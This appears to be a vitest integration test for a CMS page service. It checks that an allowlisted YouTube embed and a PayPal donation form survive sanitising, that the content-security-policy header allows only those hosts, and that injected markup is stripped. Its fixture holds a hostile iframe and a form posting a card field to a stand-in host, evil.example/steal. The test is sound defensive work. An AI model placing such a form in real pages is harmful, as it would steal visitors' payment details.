/**
 * A CMS page carrying what python.org's pages carry, read as a visitor: an embedded talk from
 * YouTube and a PayPal donation form survive, sandboxed and allowed by the CSP; a frame or a
 * form going anywhere else does not. The real page service over a CMS answering from memory.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CmsClient } from '../../../web/src/cms/client';
import type { PageDoc } from '../../../web/src/cms/types';
import { createPageService } from '../../../web/src/services/pageService';
import { createFakeServices } from '../support/fakeServices';
import { startTestApp } from '../support/startTestApp';
import type { TestServer } from '../support/startTestServer';
import { trustedRichTextHtml } from '../../../lib/markup/storedMarkup';

const source =
  '<h2>Keynote</h2><iframe src="https://www.youtube.com/embed/abc123" width="560" height="315" title="Keynote"></iframe>' +
  '<iframe src="https://evil.example/frame">no</iframe>' +
  '<form action="https://www.paypal.com/donate" method="post"><input type="hidden" name="hosted_button_id" value="XYZ"><button type="submit">Donate</button></form>' +
  '<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>';
const content = { root: { type: 'root', format: '', indent: 0, version: 1, direction: 'ltr', children: [{ type: 'block', version: 2, format: '', fields: { blockType: 'rawMarkup', markupType: 'html', source } }] } };
// The HTML the CMS stores beside the content when the page is saved (collections/Pages).
const page: PageDoc = {
  id: 1,
  title: 'Donate',
  path: '/psf/donations/',
  contentHtml: trustedRichTextHtml(content),
  description: null,
  keywords: null,
  updatedAt: null,
  status: 'published',
};
const client = {
  findRedirects: async () => [],
  findRedirectRules: async () => [],
  findPageByPath: async (path: string) => (path === page.path ? page : null),
} as unknown as CmsClient;

describe('a page with an embedded video and a donation form', () => {
  let server: TestServer;
  beforeAll(async () => {
    const base = createFakeServices();
    server = await startTestApp({ ...base, pages: { ...createPageService(client), publishedPaths: async () => [] } });
  });
  afterAll(async () => {
    await server.close();
  });

  it('keeps the allowlisted player and form, drops the others, and lets the CSP allow exactly those', async () => {
    const response = await fetch(`${server.baseUrl}/psf/donations/`);
    const body = await response.text();
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(response.headers.get('cache-control')).toBe('public, max-age=300');
    expect(body).toMatch(/<iframe src="https:\/\/www\.youtube\.com\/embed\/abc123" width="560" height="315" title="Keynote" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups allow-popups-to-escape-sandbox"/);
    expect(body).toContain('<form action="https://www.paypal.com/donate" method="post"><input type="hidden" name="hosted_button_id" value="XYZ" /><button type="submit">Donate</button></form>');
    expect(body).not.toContain('evil.example');
    expect(body).not.toContain('name="card"');
    const csp = response.headers.get('content-security-policy') ?? '';
    expect(csp).toContain('frame-src https://www.youtube.com https://www.youtube-nocookie.com https://player.vimeo.com');
    expect(csp).toContain("form-action 'self' https://www.paypal.com");
    expect(csp).toContain("frame-ancestors 'none'");
  });
});
